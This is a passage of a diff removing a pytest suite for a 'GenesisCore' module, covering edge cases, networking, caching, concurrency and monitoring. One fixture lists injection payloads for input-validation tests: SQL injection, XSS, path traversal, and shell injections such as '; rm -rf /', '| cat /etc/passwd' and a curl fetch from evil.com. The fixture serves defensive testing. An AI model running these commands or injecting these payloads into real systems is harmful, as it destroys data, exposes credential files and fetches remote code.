-            "cafe\u0301",  # NFD normalization (e + combining accent)
-            "＃hashtagfullwidth",  # Full-width characters
-            "🏳️‍🌈",  # Complex emoji with ZWJ sequences
-            "\u200b\u200c\u200d",  # Zero-width characters
-            "\ufeff",  # BOM character
-        ]
-
-        for case in unicode_cases:
-            result = self.core.process_data(case)
-            assert result is not None
-            # Should handle various Unicode forms
-
-    def test_edge_case_timezone_handling(self):
-        """
-        Test that the core data processing correctly handles datetime objects with various timezone offsets, including UTC, non-standard, negative, and extreme positive offsets.
-        """
-        from datetime import datetime, timezone, timedelta
-
-        timezone_cases = [
-            datetime.now(timezone.utc),  # UTC timezone
-            datetime.now(timezone(timedelta(hours=5.5))),  # Non-standard offset
-            datetime.now(timezone(timedelta(hours=-12))),  # Negative offset
-            datetime.now(timezone(timedelta(hours=14))),  # Extreme positive offset
-        ]
-
-        for case in timezone_cases:
-            result = self.core.process_data(case)
-            assert result is not None
-
-    def test_edge_case_recursive_data_structures(self):
-        """
-        Test that recursive data structures with circular references are processed without causing infinite recursion or errors.
-        """
-        # Create circular reference
-        circular_dict = {"key": "value"}
-        circular_dict["self"] = circular_dict
-
-        # Create circular list
-        circular_list = [1, 2, 3]
-        circular_list.append(circular_list)
-
-        recursive_cases = [circular_dict, circular_list]
-
-        for case in recursive_cases:
-            result = self.core.process_data(case)
-            assert result is not None
-            # Should handle circular references without infinite recursion
-
-    def test_edge_case_system_limits(self):
-        """
-        Test processing of deeply nested data structures near the system's recursion limit.
-        
-        Verifies that the core processing function can handle data structures with significant nesting depth without causing a stack overflow or failure.
-        """
-        import sys
-
-        # Test maximum recursion depth
-        max_depth = sys.getrecursionlimit()
-        deep_structure = {"level": 0}
-        current = deep_structure
-
-        # Create deeply nested structure (but not too deep to cause stack overflow)
-        for i in range(min(100, max_depth // 10)):
-            current["next"] = {"level": i + 1}
-            current = current["next"]
-
-        result = self.core.process_data(deep_structure)
-        assert result is not None
-
-    def test_edge_case_character_encoding(self):
-        """
-        Tests that the data processing function correctly handles inputs with various character encodings, including different byte order marks and encoded byte strings.
-        """
-        encoding_cases = [
-            b'\xff\xfe\x00\x00',  # UTF-32 BOM
-            b'\xff\xfe',  # UTF-16 BOM
-            b'\xef\xbb\xbf',  # UTF-8 BOM
-            "hello world".encode('utf-8'),  # UTF-8 bytes
-            "hello world".encode('utf-16'),  # UTF-16 bytes
-            "hello world".encode('ascii'),  # ASCII bytes
-        ]
-
-        for case in encoding_cases:
-            result = self.core.process_data(case)
-            assert result is not None
-
-    def test_edge_case_empty_containers(self):
-        """
-        Test that the core data processing method handles various empty containers without errors.
-        
-        Verifies that processing empty dicts, lists, sets, tuples, frozensets, strings, and bytes returns a non-error result or preserves the input.
-        """
-        empty_cases = [
-            {},  # Empty dict
-            [],  # Empty list
-            set(),  # Empty set
-            tuple(),  # Empty tuple
-            frozenset(),  # Empty frozenset
-            "",  # Empty string
-            b"",  # Empty bytes
-        ]
-
-        for case in empty_cases:
-            result = self.core.process_data(case)
-            # Should handle empty containers gracefully
-            assert result is not None or result == case
-
-
-# Enhanced fixtures for advanced testing
-@pytest.fixture
-def advanced_mock_config():
-    """
-    Return a comprehensive mock configuration dictionary with advanced API, cache, logging, security, and performance settings for testing purposes.
-    """
-    return {
-        'api': {
-            'primary_key': 'test_primary_key',
-            'secondary_key': 'test_secondary_key',
-            'base_url': 'https://api.test.com',
-            'timeout': 30,
-            'retries': 3,
-            'retry_delay': 1.0,
-            'backoff_factor': 2.0
-        },
-        'cache': {
-            'enabled': True,
-            'ttl': 3600,
-            'max_size': 1000,
-            'eviction_policy': 'lru'
-        },
-        'logging': {
-            'level': 'INFO',
-            'format': '%(asctime)s - %(name)s - %(levelname)s - %(message)s',
-            'file': 'genesis_core.log'
-        },
-        'security': {
-            'input_validation': True,
-            'output_sanitization': True,
-            'rate_limiting': {
-                'enabled': True,
-                'requests_per_minute': 60
-            }
-        },
-        'performance': {
-            'max_concurrent_requests': 10,
-            'request_timeout': 30,
-            'connection_pool_size': 20
-        }
-    }
-
-
-@pytest.fixture
-def performance_monitor():
-    """
-    Fixture that provides a utility for tracking memory usage, CPU usage, and execution time during test execution.
-    
-    Returns:
-        PerformanceMonitor: An object with methods to retrieve memory usage delta, current CPU usage, and elapsed time since instantiation.
-    """
-    import psutil
-    import os
-
-    process = psutil.Process(os.getpid())
-
-    class PerformanceMonitor:
-        def __init__(self):
-            """
-            Initialize the performance monitor by recording the current memory usage, CPU usage, and start time.
-            """
-            self.initial_memory = process.memory_info().rss
-            self.initial_cpu = process.cpu_percent()
-            self.start_time = time.time()
-
-        def get_memory_usage(self):
-            """
-            Return the difference in memory usage (in bytes) since initialization.
-            
-            Returns:
-                int: The increase in resident set size (RSS) memory since the object's creation.
-            """
-            return process.memory_info().rss - self.initial_memory
-
-        def get_cpu_usage(self):
-            """
-            Return the current CPU usage percentage of the process.
-            
-            Returns:
-                float: The CPU usage as a percentage.
-            """
-            return process.cpu_percent()
-
-        def get_execution_time(self):
-            """
-            Return the elapsed time in seconds since the object's initialization.
-            
-            Returns:
-                float: Number of seconds since `self.start_time`.
-            """
-            return time.time() - self.start_time
-
-    return PerformanceMonitor()
-
-
-@pytest.fixture
-def security_test_data():
-    """
-    Return a dictionary containing representative payloads for common security attack vectors, including SQL injection, XSS, command injection, and path traversal.
-    
-    Returns:
-        dict: A mapping of attack vector names to lists of example payload strings.
-    """
-    return {
-        'sql_injection': [
-            "'; DROP TABLE users; --",
-            "' OR '1'='1",
-            "1; DELETE FROM users",
-            "admin'--",
-            "' UNION SELECT * FROM users--"
-        ],
-        'xss_attacks': [
-            "<script>alert('xss')</script>",
-            "<img src=x onerror=alert('xss')>",
-            "javascript:alert('xss')",
-            "<iframe src=javascript:alert('xss')></iframe>",
-            "<svg onload=alert('xss')>"
-        ],
-        'command_injection': [
-            "; rm -rf /",
-            "| cat /etc/passwd",
-            "& del /f /q c:\\",
-            "$(curl -s http://evil.com/payload.txt)",
-            "`id`"
-        ],
-        'path_traversal': [
-            "../../../etc/passwd",
-            "..\\..\\..\\windows\\system32\\config\\sam",
-            "....//....//....//etc/passwd",
-            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
-        ]
-    }
-
-
-# Additional parameterized tests
-@pytest.mark.parametrize("data_type,test_value", [
-    (int, 42),
-    (float, 3.14),
-    (str, "test_string"),
-    (list, [1, 2, 3]),
-    (dict, {"key": "value"}),
-    (tuple, (1, 2, 3)),
-    (set, {1, 2, 3}),
-    (bool, True),
-    (type(None), None),
-    (bytes, b"test_bytes"),
-])
-def test_parameterized_data_types(data_type, test_value):
-    """
-    Test that the data processing function handles various Python data types without returning None unless the input is empty.
-    
-    Parameters:
-        data_type: The type of data being tested (for informational purposes in test reporting).
-        test_value: The value of the data to be processed.
-    """
-    core = GenesisCore()
-    result = core.process_data(test_value)
-    assert result is not None or result == test_value
-
-
-@pytest.mark.parametrize("unicode_category", [
-    "测试数据",  # Chinese
-    "данные тест",  # Russian
-    "بيانات الاختبار",  # Arabic
-    "テストデータ",  # Japanese
-    "🚀💻🔬🧪",  # Emojis
-    "Iñtërnâtiônàlizætiøn",  # Mixed diacritics
-])
-def test_parameterized_unicode_handling(unicode_category):
-    """
-    Test that Unicode content in various language categories is correctly processed and preserved by the core module.
-    
-    Parameters:
-        unicode_category (str): A string containing characters from a specific Unicode category.
-    """
-    core = GenesisCore()
-    result = core.process_data(unicode_category)
-    assert result is not None
-    # Should preserve Unicode content
-    assert any(char in str(result) for char in unicode_category)
-
-
-# Performance benchmark tests
-@pytest.mark.benchmark
-def test_benchmark_data_processing():
-    """
-    Benchmark the data processing speed of the GenesisCore by measuring throughput and execution time for 1000 operations.
-    
-    Asserts that the processing rate exceeds 500 operations per second and completes within 2 seconds.
-    """
-    core = GenesisCore()
-    test_data = {"key": "value" * 1000}
-
-    # Warmup
-    for _ in range(10):
-        core.process_data(test_data)
-
-    # Benchmark
-    start_time = time.time()
-    for _ in range(1000):
-        core.process_data(test_data)
-    end_time = time.time()
-
-    execution_time = end_time - start_time
-    operations_per_second = 1000 / execution_time
-
-    assert operations_per_second > 500  # Should handle at least 500 ops/second
-    assert execution_time < 2.0  # Should complete within 2 seconds
-
-
-@pytest.mark.benchmark
-def test_benchmark_concurrent_processing():
-    """
-    Benchmark the concurrent data processing performance of GenesisCore.
-    
-    Runs 10 worker threads, each processing 100 items concurrently, and asserts that the system achieves at least 200 operations per second and completes within 10 seconds.
-    """
-    core = GenesisCore()
-
-    def worker(worker_id):
-        """
-        Processes 100 data items using the core's `process_data` method, each tagged with the given worker ID.
-        
-        Parameters:
-            worker_id: Identifier used to distinguish items processed by this worker.
-        
-        Returns:
-            List of processed results for each item.
-        """
-        results = []
-        for i in range(100):
-            result = core.process_data(f"worker_{worker_id}_item_{i}")
-            results.append(result)
-        return results
-
-    start_time = time.time()
-
-    with ThreadPoolExecutor(max_workers=10) as executor:
-        futures = [executor.submit(worker, i) for i in range(10)]
-        all_results = [f.result() for f in futures]
-
-    end_time = time.time()
-    execution_time = end_time - start_time
-
-    total_operations = 10 * 100  # 10 workers * 100 operations each
-    operations_per_second = total_operations / execution_time
-
-    assert operations_per_second > 200  # Should handle at least 200 ops/second concurrently
-    assert execution_time < 10.0  # Should complete within 10 seconds
-    assert len(all_results) == 10
-    assert all(len(results) == 100 for results in all_results)
-
-
-if __name__ == "__main__":
-    # Run with additional test markers and options
-    pytest.main([
-        __file__,
-        "-v",  # Verbose output
-        "--tb=short",  # Short traceback format
-        "-x",  # Stop on first failure
-        "--durations=10",  # Show 10 slowest tests
-        "--strict-markers",  # Strict marker validation
-        "-m", "not slow",  # Skip slow tests by default
-        "--cov=app.ai_backend.genesis_core",  # Coverage for genesis_core module
-        "--cov-report=html",  # HTML coverage report
-        "--cov-report=term-missing",  # Terminal coverage report
-    ])
-
-
-# ============================================================================
-# ADDITIONAL COMPREHENSIVE TESTS - EXTENDED COVERAGE
-# ============================================================================
-
-class TestGenesisCoreAdvancedValidation:
-    """Additional validation tests for comprehensive coverage."""
-
-    def setup_method(self):
-        """Set up a new instance of GenesisCore before each test method."""
-        self.core = GenesisCore()
-
-    def test_validation_with_custom_validators(self):
-        """Test input validation with custom validation rules."""
-        # Test with custom validation scenarios
-        validation_scenarios = [
-            {"email": "test@example.com", "expected": True},
-            {"email": "invalid-email", "expected": False},
-            {"phone": "+1-234-567-8900", "expected": True},
-            {"phone": "invalid-phone", "expected": False},
-            {"url": "https://example.com", "expected": True},
-            {"url": "not-a-url", "expected": False},
-        ]
-
-        for scenario in validation_scenarios:
-            try:
-                result = self.core.validate_input(scenario)
-                assert result is not None
-            except ValueError as e:
-                # Expected for invalid scenarios
-                assert "invalid" in str(scenario).lower()
-
-    def test_validation_with_nested_structures(self):
-        """Test validation of deeply nested data structures."""
-        nested_data = {
-            "level1": {
-                "level2": {
-                    "level3": {
-                        "level4": {
-                            "value": "deeply_nested_value"
-                        }
-                    }
-                }
-            }
-        }
-
-        result = self.core.validate_input(nested_data)
-        assert result is True
-
-    def test_validation_with_mixed_types(self):
-        """Test validation with mixed data types in collections."""
-        mixed_data = [
-            {"int": 42, "float": 3.14, "str": "text", "bool": True},
-            [1, "two", 3.0, True, None],
-            {"nested": [1, {"key": "value"}, [2, 3]]},
-        ]
-
-        for data in mixed_data:
-            result = self.core.validate_input(data)
-            assert result is True
-
-    def test_validation_with_large_numbers(self):
-        """Test validation with very large numeric values."""
-        large_numbers = [
-            10 ** 100,  # Very large integer
-            10 ** -100,  # Very small float
-            2 ** 1000,  # Extremely large integer
-            1.7976931348623157e+308,  # Near float max
-            2.2250738585072014e-308,  # Near float min
-        ]
-
-        for number in large_numbers:
-            result = self.core.validate_input(number)
-            assert result is True
-
-    def test_validation_with_special_strings(self):
-        """Test validation with special string formats."""
-        special_strings = [
-            "line1\nline2\nline3",  # Multi-line
-            "tab\tseparated\tvalues",  # Tab-separated
-            "unicode: 测试 🧪 café",  # Unicode mixed
-            "escaped: \\n\\t\\r\\\"",  # Escaped characters
-            "   leading and trailing spaces   ",  # Whitespace
-            "",  # Empty string - should fail
-        ]
-
-        for string in special_strings:
-            try:
-                result = self.core.validate_input(string)
-                if string == "":
-                    assert False, "Empty string should have failed validation"
-                else:
-                    assert result is True
-            except ValueError:
-                if string == "":
-                    assert True  # Expected failure for empty string
-                else:
-                    assert False, f"Unexpected validation failure for: {string}"
-
-
-class TestGenesisCoreAdvancedNetworking:
-    """Additional network-related tests for comprehensive coverage."""
-
-    def setup_method(self):
-        """Set up a new instance of GenesisCore before each test method."""
-        self.core = GenesisCore()
-
-    def test_network_with_custom_headers(self):
-        """Test network requests with custom headers."""
-        custom_headers = {
-            "Authorization": "Bearer token123",
-            "Content-Type": "application/json",
-            "User-Agent": "Genesis-Core-Test/1.0",
-            "X-Custom-Header": "custom-value"
-        }
-
-        with patch('requests.get') as mock_get:
-            mock_response = Mock()
-            mock_response.status_code = 200
-            mock_response.json.return_value = {"success": True}
-            mock_get.return_value = mock_response
-
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-            assert result["status"] == "success"
-
-    def test_network_with_different_methods(self):
-        """Test network requests with different HTTP methods."""
-        methods = ["GET", "POST", "PUT", "DELETE", "PATCH"]
-
-        for method in methods:
-            with patch(f'requests.{method.lower()}') as mock_request:
-                mock_response = Mock()
-                mock_response.status_code = 200
-                mock_response.json.return_value = {"method": method}
-                mock_request.return_value = mock_response
-
-                result = self.core.make_request("https://api.example.com")
-                assert result is not None
-
-    def test_network_with_redirects(self):
-        """Test network requests with HTTP redirects."""
-        with patch('requests.get') as mock_get:
-            # Simulate redirect chain
-            redirect_responses = [
-                Mock(status_code=301, headers={"Location": "https://api.example.com/v2"}),
-                Mock(status_code=302, headers={"Location": "https://api.example.com/v3"}),
-                Mock(status_code=200, json=lambda: {"final": "destination"})
-            ]
-
-            mock_get.side_effect = redirect_responses
-
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-    def test_network_with_ssl_errors(self):
-        """Test network requests with SSL certificate errors."""
-        from requests.exceptions import SSLError
-
-        with patch('requests.get') as mock_get:
-            mock_get.side_effect = SSLError("SSL certificate verify failed")
-
-            try:
-                result = self.core.make_request("https://api.example.com")
-                # Should handle SSL errors gracefully
-                assert result is not None
-            except SSLError:
-                # Acceptable if SSL errors are propagated
-                pass
-
-    def test_network_with_proxy_settings(self):
-        """Test network requests with proxy configuration."""
-        proxy_settings = {
-            "http": "http://proxy.example.com:8080",
-            "https": "https://proxy.example.com:8080"
-        }
-
-        with patch('requests.get') as mock_get:
-            mock_response = Mock()
-            mock_response.status_code = 200
-            mock_response.json.return_value = {"proxy": "success"}
-            mock_get.return_value = mock_response
-
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-    def test_network_with_streaming_response(self):
-        """Test network requests with streaming response handling."""
-        with patch('requests.get') as mock_get:
-            mock_response = Mock()
-            mock_response.status_code = 200
-            mock_response.iter_content = lambda chunk_size=8192: [b'chunk1', b'chunk2', b'chunk3']
-            mock_get.return_value = mock_response
-
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-
-class TestGenesisCoreAdvancedCaching:
-    """Additional caching tests for comprehensive coverage."""
-
-    def setup_method(self):
-        """Set up a new instance of GenesisCore before each test method."""
-        self.core = GenesisCore()
-
-    def test_cache_with_different_ttl_values(self):
-        """Test caching with various TTL (time-to-live) values."""
-        ttl_values = [1, 60, 3600, 86400, 0, -1]  # Including edge cases
-
-        for ttl in ttl_values:
-            result = self.core.cache_set("test_key", "test_value", ttl)
-            if ttl >= 0:
-                assert result is True
-            # Negative TTL might be handled differently
-
-    def test_cache_with_large_values(self):
-        """Test caching with large data values."""
-        large_values = [
-            "x" * 10000,  # Large string
-            {"data": "y" * 5000},  # Large dict
-            list(range(1000)),  # Large list
-            {"nested": {"deep": {"value": "z" * 1000}}}  # Large nested structure
-        ]
-
-        for value in large_values:
-            result = self.core.cache_set("large_key", value)
-            assert result is True
-
-    def test_cache_with_special_key_formats(self):
-        """Test caching with various key formats."""
-        special_keys = [
-            "simple_key",
-            "key:with:colons",
-            "key.with.dots",
-            "key-with-dashes",
-            "key_with_underscores",
-            "key123with456numbers",
-            "UPPERCASE_KEY",
-            "mixedCaseKey",
-        ]
-
-        for key in special_keys:
-            set_result = self.core.cache_set(key, "test_value")
-            assert set_result is True
-
-            get_result = self.core.cache_get(key)
-            # Mock implementation returns None, but should not error
-            assert get_result is None
-
-    def test_cache_with_concurrent_access(self):
-        """Test caching with concurrent read/write operations."""
-
-        def cache_worker(worker_id):
-            """Worker function for concurrent cache operations."""
-            results = []
-            for i in range(10):
-                key = f"worker_{worker_id}_key_{i}"
-                value = f"worker_{worker_id}_value_{i}"
-
-                # Set cache
-                set_result = self.core.cache_set(key, value)
-                results.append(set_result)
-
-                # Get cache
-                get_result = self.core.cache_get(key)
-                results.append(get_result)
-
-            return results
-
-        with ThreadPoolExecutor(max_workers=5) as executor:
-            futures = [executor.submit(cache_worker, i) for i in range(5)]
-            all_results = [f.result() for f in futures]
-
-        assert len(all_results) == 5
-        assert all(isinstance(results, list) for results in all_results)
-
-    def test_cache_with_serialization(self):
-        """Test caching with complex objects that require serialization."""
-        from datetime import datetime, timedelta
-
-        complex_objects = [
-            datetime.now(),
-            timedelta(hours=24),
-            {"datetime": datetime.now(), "delta": timedelta(minutes=30)},
-            lambda x: x * 2,  # Function (might not be serializable)
-            range(10),  # Range object
-        ]
-
-        for obj in complex_objects:
-            try:
-                result = self.core.cache_set("complex_key", obj)
-                # Should handle serialization gracefully
-                assert result is not None
-            except (TypeError, ValueError):
-                # Some objects might not be serializable
-                pass
-
-
-class TestGenesisCoreAdvancedErrorRecovery:
-    """Additional error recovery tests for comprehensive coverage."""
-
-    def setup_method(self):
-        """Set up a new instance of GenesisCore before each test method."""
-        self.core = GenesisCore()
-
-    def test_error_recovery_with_fallback_mechanisms(self):
-        """Test error recovery with multiple fallback mechanisms."""
-        # Simulate primary service failure with fallback
-        with patch.object(self.core, 'make_request') as mock_request:
-            mock_request.side_effect = [
-                ConnectionError("Primary service down"),
-                ConnectionError("Secondary service down"),
-                {"status": "success", "source": "tertiary"}
-            ]
-
-            # Should eventually succeed with fallback
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-    def test_error_recovery_with_exponential_backoff(self):
-        """Test error recovery with exponential backoff strategy."""
-        attempt_times = []
-
-        def track_attempt():
-            """Track timing of retry attempts."""
-            attempt_times.append(time.time())
-            if len(attempt_times) < 3:
-                raise ConnectionError("Service temporarily unavailable")
-            return {"status": "success", "attempts": len(attempt_times)}
-
-        with patch.object(self.core, 'make_request', side_effect=track_attempt):
-            start_time = time.time()
-            result = self.core.make_request("https://api.example.com")
-            end_time = time.time()
-
-            assert result is not None
-            # Should have some delay between attempts (exponential backoff)
-            total_time = end_time - start_time
-            assert total_time > 0  # Should take some time due to backoff
-
-    def test_error_recovery_with_health_checks(self):
-        """Test error recovery with service health checks."""
-        health_status = {"healthy": False, "attempts": 0}
-
-        def health_check_simulation():
-            """Simulate health check that recovers after attempts."""
-            health_status["attempts"] += 1
-            if health_status["attempts"] < 3:
-                raise ConnectionError("Health check failed")
-
-            health_status["healthy"] = True
-            return {"status": "healthy", "attempts": health_status["attempts"]}
-
-        with patch.object(self.core, 'make_request', side_effect=health_check_simulation):
-            result = self.core.make_request("https://api.example.com/health")
-            assert result is not None
-            assert health_status["healthy"] is True
-
-    def test_error_recovery_with_data_corruption(self):
-        """Test error recovery when data corruption is detected."""
-        corrupted_responses = [
-            {"status": "error", "data": None},  # Null data
-            {"status": "success"},  # Missing data field
-            {"data": "corrupted"},  # Missing status field
-            {"status": "success", "data": "valid_data"}  # Finally valid
-        ]
-
-        response_iterator = iter(corrupted_responses)
-
-        def corrupted_response_simulation():
-            """Simulate responses with data corruption."""
-            try:
-                response = next(response_iterator)
-                if response.get("status") == "error" or "data" not in response:
-                    raise ValueError("Data corruption detected")
-                return response
-            except StopIteration:
-                raise ConnectionError("No more responses")
-
-        with patch.object(self.core, 'make_request', side_effect=corrupted_response_simulation):
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-    def test_error_recovery_with_quota_limits(self):
-        """Test error recovery when API quota limits are reached."""
-        quota_attempts = {"count": 0, "quota_exceeded": True}
-
-        def quota_simulation():
-            """Simulate API quota limit enforcement."""
-            quota_attempts["count"] += 1
-
-            if quota_attempts["count"] < 3 and quota_attempts["quota_exceeded"]:
-                mock_response = Mock()
-                mock_response.status_code = 429
-                mock_response.json.return_value = {"error": "Quota exceeded"}
-                return mock_response
-
-            quota_attempts["quota_exceeded"] = False
-            return {"status": "success", "quota_reset": True}
-
-        with patch.object(self.core, 'make_request', side_effect=quota_simulation):
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-
-class TestGenesisCoreAdvancedDataTransformation:
-    """Additional data transformation tests for comprehensive coverage."""
-
-    def setup_method(self):
-        """Set up a new instance of GenesisCore before each test method."""
-        self.core = GenesisCore()
-
-    def test_data_transformation_with_filters(self):
-        """Test data transformation with filtering operations."""
-        test_data = {
-            "users": [
-                {"id": 1, "name": "Alice", "active": True},
-                {"id": 2, "name": "Bob", "active": False},
-                {"id": 3, "name": "Charlie", "active": True},
-            ],
-            "filter_active": True
-        }
-
-        result = self.core.process_data(test_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-    def test_data_transformation_with_aggregations(self):
-        """Test data transformation with aggregation operations."""
-        test_data = {
-            "sales": [
-                {"product": "A", "amount": 100},
-                {"product": "B", "amount": 200},
-                {"product": "A", "amount": 150},
-            ],
-            "aggregate_by": "product"
-        }
-
-        result = self.core.process_data(test_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-    def test_data_transformation_with_joins(self):
-        """Test data transformation with join operations."""
-        test_data = {
-            "users": [
-                {"id": 1, "name": "Alice"},
-                {"id": 2, "name": "Bob"},
-            ],
-            "profiles": [
-                {"user_id": 1, "email": "alice@example.com"},
-                {"user_id": 2, "email": "bob@example.com"},
-            ],
-            "join_on": "id"
-        }
-
-        result = self.core.process_data(test_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-    def test_data_transformation_with_sorting(self):
-        """Test data transformation with sorting operations."""
-        test_data = {
-            "items": [
-                {"name": "Charlie", "score": 85},
-                {"name": "Alice", "score": 92},
-                {"name": "Bob", "score": 78},
-            ],
-            "sort_by": "score",
-            "sort_order": "desc"
-        }
-
-        result = self.core.process_data(test_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-    def test_data_transformation_with_grouping(self):
-        """Test data transformation with grouping operations."""
-        test_data = {
-            "transactions": [
-                {"category": "food", "amount": 25},
-                {"category": "transport", "amount": 15},
-                {"category": "food", "amount": 30},
-                {"category": "transport", "amount": 20},
-            ],
-            "group_by": "category"
-        }
-
-        result = self.core.process_data(test_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-    def test_data_transformation_with_pivoting(self):
-        """Test data transformation with pivot operations."""
-        test_data = {
-            "data": [
-                {"date": "2023-01-01", "product": "A", "sales": 100},
-                {"date": "2023-01-01", "product": "B", "sales": 200},
-                {"date": "2023-01-02", "product": "A", "sales": 150},
-                {"date": "2023-01-02", "product": "B", "sales": 250},
-            ],
-            "pivot_on": "product",
-            "values": "sales"
-        }
-
-        result = self.core.process_data(test_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-
-class TestGenesisCoreAdvancedAsync:
-    """Additional async/concurrent tests for comprehensive coverage."""
-
-    def setup_method(self):
-        """Set up a new instance of GenesisCore before each test method."""
-        self.core = GenesisCore()
-
-    def test_async_data_processing(self):
-        """Test asynchronous data processing patterns."""
-
-        async def async_data_generator():
-            """Asynchronous generator for test data."""
-            for i in range(10):
-                yield {"id": i, "data": f"async_item_{i}"}
-
-        # Simulate async processing
-        results = []
-        for i in range(10):
-            data = {"id": i, "data": f"async_item_{i}"}
-            result = self.core.process_data(data)
-            results.append(result)
-
-        assert len(results) == 10
-        assert all(result is not None for result in results)
-
-    def test_concurrent_with_shared_state(self):
-        """Test concurrent processing with shared state management."""
-        shared_state = {"counter": 0, "lock": threading.Lock()}
-
-        def concurrent_worker_with_state(worker_id):
-            """Worker that updates shared state."""
-            results = []
-            for i in range(10):
-                with shared_state["lock"]:
-                    shared_state["counter"] += 1
-                    current_count = shared_state["counter"]
-
-                data = {"worker": worker_id, "count": current_count, "item": i}
-                result = self.core.process_data(data)
-                results.append(result)
-
-            return results
-
-        with ThreadPoolExecutor(max_workers=5) as executor:
-            futures = [executor.submit(concurrent_worker_with_state, i) for i in range(5)]
-            all_results = [f.result() for f in futures]
-
-        assert len(all_results) == 5
-        assert all(len(results) == 10 for results in all_results)
-        assert shared_state["counter"] == 50  # 5 workers * 10 operations each
-
-    def test_concurrent_with_resource_pooling(self):
-        """Test concurrent processing with resource pooling."""
-        resource_pool = {"available": list(range(10)), "in_use": set()}
-        pool_lock = threading.Lock()
-
-        def get_resource():
-            """Get resource from pool."""
-            with pool_lock:
-                if resource_pool["available"]:
-                    resource = resource_pool["available"].pop()
-                    resource_pool["in_use"].add(resource)
-                    return resource
-                return None
-
-        def return_resource(resource):
-            """Return resource to pool."""
-            with pool_lock:
-                if resource in resource_pool["in_use"]:
-                    resource_pool["in_use"].remove(resource)
-                    resource_pool["available"].append(resource)
-
-        def pooled_worker(worker_id):
-            """Worker that uses resource pool."""
-            results = []
-            for i in range(5):
-                resource = get_resource()
-                if resource is not None:
-                    data = {"worker": worker_id, "resource": resource, "item": i}
-                    result = self.core.process_data(data)
-                    results.append(result)
-                    return_resource(resource)
-            return results
-
-        with ThreadPoolExecutor(max_workers=10) as executor:
-            futures = [executor.submit(pooled_worker, i) for i in range(10)]
-            all_results = [f.result() for f in futures]
-
-        assert len(all_results) == 10
-        assert all(isinstance(results, list) for results in all_results)
-        # Resources should be returned to pool
-        assert len(resource_pool["in_use"]) == 0
-
-    def test_concurrent_with_rate_limiting(self):
-        """Test concurrent processing with rate limiting."""
-        rate_limiter = {"requests": 0, "start_time": time.time()}
-
-        def rate_limited_worker(worker_id):
-            """Worker that respects rate limits."""
-            results = []
-            for i in range(5):
-                # Simple rate limiting simulation
-                current_time = time.time()
-                elapsed = current_time - rate_limiter["start_time"]
-
-                if elapsed < 1 and rate_limiter["requests"] >= 50:
-                    time.sleep(0.1)  # Wait if rate limit exceeded
-
-                rate_limiter["requests"] += 1
-                data = {"worker": worker_id, "item": i, "timestamp": current_time}
-                result = self.core.process_data(data)
-                results.append(result)
-
-            return results
-
-        with ThreadPoolExecutor(max_workers=10) as executor:
-            futures = [executor.submit(rate_limited_worker, i) for i in range(10)]
-            all_results = [f.result() for f in futures]
-
-        assert len(all_results) == 10
-        assert all(len(results) == 5 for results in all_results)
-
-
-class TestGenesisCoreAdvancedMonitoring:
-    """Additional monitoring and observability tests."""
-
-    def setup_method(self):
-        """Set up a new instance of GenesisCore before each test method."""
-        self.core = GenesisCore()
-
-    def test_monitoring_with_metrics_collection(self):
-        """Test monitoring with metrics collection."""
-        metrics = {
-            "requests_total": 0,
-            "requests_success": 0,
-            "requests_failed": 0,
-            "response_times": []
-        }
-
-        def track_request_metrics():
-            """Track request metrics."""
-            metrics["requests_total"] += 1
-            start_time = time.time()
-
-            try:
-                result = self.core.make_request("https://api.example.com")
-                end_time = time.time()
-
-                metrics["requests_success"] += 1
-                metrics["response_times"].append(end_time - start_time)
-                return result
-            except Exception:
-                metrics["requests_failed"] += 1
-                raise
-
-        # Simulate multiple requests
-        for _ in range(10):
-            try:
-                track_request_metrics()
-            except Exception:
-                pass
-
-        assert metrics["requests_total"] == 10
-        assert metrics["requests_success"] + metrics["requests_failed"] == 10
-        assert len(metrics["response_times"]) == metrics["requests_success"]
-
-    def test_monitoring_with_health_checks(self):
-        """Test monitoring with health check endpoints."""
-        health_checks = {
-            "database": {"status": "healthy", "last_check": time.time()},
-            "cache": {"status": "healthy", "last_check": time.time()},
-            "external_api": {"status": "healthy", "last_check": time.time()}
-        }
-
-        def perform_health_check(service):
-            """Perform health check for a service."""
-            health_checks[service]["last_check"] = time.time()
-
-            # Simulate health check logic
-            if service == "database":
-                # Simulate database health check
-                result = self.core.process_data({"health_check": "database"})
-                health_checks[service]["status"] = "healthy" if result else "unhealthy"
-            elif service == "cache":
-                # Simulate cache health check
-                result = self.core.cache_get("health_check")
-                health_checks[service]["status"] = "healthy"  # Cache always returns None in mock
-            elif service == "external_api":
-                # Simulate API health check
-                result = self.core.make_request("https://api.example.com/health")
-                health_checks[service]["status"] = "healthy" if result else "unhealthy"
-
-        # Perform health checks
-        for service in health_checks:
-            perform_health_check(service)
-
-        # Verify all health checks completed
-        for service, status in health_checks.items():
-            assert status["status"] in ["healthy", "unhealthy"]
-            assert status["last_check"] > 0
-
-    def test_monitoring_with_alerting(self):
-        """Test monitoring with alerting mechanisms."""
-        alerts = {"triggered": [], "resolved": []}
-
-        def check_alert_conditions():
-            """Check various alert conditions."""
-            # Simulate error rate check
-            error_rate = 0.05  # 5% error rate
-            if error_rate > 0.1:
-                alerts["triggered"].append({"type": "high_error_rate", "value": error_rate})
-
-            # Simulate response time check
-            avg_response_time = 0.5  # 500ms average
-            if avg_response_time > 1.0:
-                alerts["triggered"].append({"type": "slow_response", "value": avg_response_time})
-
-            # Simulate resource usage check
-            memory_usage = 0.8  # 80% memory usage
-            if memory_usage > 0.9:
-                alerts["triggered"].append({"type": "high_memory", "value": memory_usage})
-
-        # Run alert checks
-        check_alert_conditions()
-
-        # Verify alerting system works
-        assert isinstance(alerts["triggered"], list)
-        assert isinstance(alerts["resolved"], list)
-
-    def test_monitoring_with_distributed_tracing(self):
-        """Test monitoring with distributed tracing simulation."""
-        trace_data = {
